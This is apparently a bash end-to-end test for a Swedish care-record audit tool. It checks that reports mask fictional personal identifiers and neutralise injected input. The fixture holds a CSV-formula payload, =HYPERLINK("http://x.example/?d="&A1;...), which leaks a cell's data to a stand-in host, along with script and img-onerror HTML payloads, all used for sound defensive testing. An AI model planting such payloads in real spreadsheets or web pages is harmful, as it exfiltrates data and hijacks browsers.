#!/usr/bin/env bash
# End-to-end check that nothing ibic-audit writes repeats a personnummer,
# phone number or e-mail address, and that no injection string from the
# input reaches a spreadsheet or a browser raw (issue 11). One fictional case
# full of identifiers in every place a reader or rule quotes text (notes,
# headings, goal sentences, unknown life areas) and of injection strings in
# its header fields goes through every format, the store, the baseline and
# every compare format, and every file and standard error is searched;
# with --redact no report names a person.
source "$(dirname "$0")/common.sh" "$@"

in="$tmp/in"
out="$tmp/out"
mkdir -p "$in" "$out"
# The personnummer have wrong check digits (tests/meta); the spellings are
# those word processors and keyboards produce: en dash, no-break space,
# full-width digits, a glued "pnr".
python3 - "$in" <<'PY'
import sys
d = sys.argv[1]
head = ('Ärende: 2099-0901\n'
        'Avdelning: =HYPERLINK("http://x.example/?d="&A1;"klicka")\n'
        'Enhet: <script>alert(1)</script><img src=x onerror=alert(2)>\n'
        'Lagrum: SoL\n')
open(d + '/journal.txt', 'w', encoding='utf-8').write(
    head + 'Dokument: Journalanteckningar\nDatum: 2025-03-01\nUpprättad av: undersköterska\n\n'
    '2025-03-01 07:45 Personlig vård (undersköterska)\n'
    'Ingvar mejlade anna.exempel@exempel.se och åsa.berg@härnösand.se om saken. '
    'Hans pnr är 450312-1234 och han var lat i dag.\n\n'
    '2025-03-02 14:00 Övrigt (Lisbet Strand)\n'
    'Dottern Majvor ringde från 070\u2013123\u00a045\u00a067 och uppgav pnr450312-1234, '
    '450312\u20131234, 450312\u00a01234 och \uff14\uff15\uff10\uff13\uff11\uff12-\uff11\uff12\uff13\uff14.\n\n'
    '2025-03-03 22:40 Hemliv 19450312-1234 =1+1 (undersköterska)\n'
    'Ingvar sov dåligt. Ring +46 70 123 45 67 vid frågor.\n\n'
    # A header the reader does not understand: its remark quotes the name.
    '2025-03-04 09:00 Ingvars trädgård (undersköterska)\n'
    'Ingvar vattnade själv.\n')
open(d + '/plan.txt', 'w', encoding='utf-8').write(
    head + 'Dokument: Genomförandeplan\nDatum: 2025-02-03\nUpprättad av: kontaktman\n\n'
    'Delaktighet\nIngvar (450312-1234) var med när planen gjordes.\n\n'
    'Mål\nIngvar med pnr 450312-1234 klär sig själv, skriver han till anna.exempel@exempel.se.\n\n'
    '## Genomförande: Morgon 450312-1234 <b>fet</b>\n'
    'Vad: Stöd vid påklädning, ring 08-123 456 78.\n'
    'Hur: Ingvar sätter sig själv på sängkanten.\n'
    'När: Varje morgon.\nVem: Personal.\n')
PY

run() { # name, then arguments; stdout to $out/name, stderr to $out/name.err
  local name=$1; shift
  "$cli" "$@" >"$out/$name" 2>"$out/$name.err"
}
for f in text json sarif junit csv html; do
  run "audit.$f" audit --format "$f" "$in"
  run "check.$f" check --format "$f" "$in"
done
for f in text json sarif junit csv html; do
  run "redact.$f" audit --redact --format "$f" "$in"
done
run audit.o.txt audit -o "$out/report-o.html" --format html "$in"
run store1 audit --store "$out/audit.db" --round "=1+1" "$in"
run store2 audit --store "$out/audit.db" --round '=HYPERLINK("http://x.example")' "$in"
run baseline check --write-baseline "$out/baseline.json" "$in"
run history history --store "$out/audit.db"
for f in text csv html; do
  run "compare.$f" compare --format "$f" --store "$out/audit.db" "=1+1" '=HYPERLINK("http://x.example")'
done

check "every format was written" \
  bash -c "for f in '$out'/audit.{text,json,sarif,junit,csv,html} '$out'/compare.{text,csv,html} '$out/baseline.json' '$out/report-o.html'; do [ -s \"\$f\" ] || exit 1; done"
check "the store holds both rounds" bash -c "grep -q '^=1+1 ' '$out/history'"

# Every identifier, in each spelling the input uses, and its digits alone.
clear='450312|４５０３１２|１２３４|4503121234|123.45.67|123 456 78|anna\.exempel|exempel\.se|åsa\.berg|härnösand'
check "no output, store or standard error repeats an identifier" \
  bash -c "! grep -Ea '$clear' -r '$out'"
check "the seven personnummer in the text are still found, and reported masked" \
  test "$(grep -c 'sprak/personnummer' "$out/check.text")" -ge 7

check "--redact: no report names the individual, a relative or an author" \
  bash -c "! grep -Ea 'Ingvar|Majvor|Lisbet|Strand' '$out'/redact.*"
check "--redact: their roles stand in their place" \
  bash -c "grep -q 'den enskilde mejlade' '$out/redact.text' && grep -q 'Övrigt (personalen)' '$out/redact.text' && grep -q 'Dottern ringde' '$out/redact.text'"
check "without --redact the names are shown" grep -q 'Ingvar' "$out/audit.text"

# No injection reaches a program that would act on it.
check "HTML pages hold no raw element from the input" \
  bash -c "! grep -Eqi '<(script|img|b>fet)' '$out/audit.html' '$out/check.html' '$out/compare.html' '$out/report-o.html'"
check "JUnit is well-formed XML without elements from the input" \
  python3 -c '
import sys, xml.etree.ElementTree as E
for p in sys.argv[1:]:
    r = E.parse(p).getroot()
    assert not any(e.tag in ("script", "img", "b") for e in r.iter()), p' \
  "$out/audit.junit" "$out/check.junit"
check "JSON and SARIF parse" \
  python3 -c '
import json, sys
for p in sys.argv[1:]:
    json.load(open(p, encoding="utf-8"))' "$out/audit.json" "$out/check.json" "$out/audit.sarif" "$out/check.sarif" "$out/baseline.json"
check "no CSV field starts a formula" \
  python3 -c '
import csv, io, sys
for p in sys.argv[1:]:
    text = open(p, encoding="utf-8-sig", newline="").read()
    for row in csv.reader(io.StringIO(text), delimiter=";"):
        for field in row:
            assert not field or field[0] not in "=+-@\t\r" or field.lstrip("-").replace(",", "").isdigit(), (p, field)' \
  "$out/audit.csv" "$out/check.csv" "$out/compare.csv"
check "the round names stay readable in the CSV" \
  grep -q "'=1+1" "$out/compare.csv"

finish
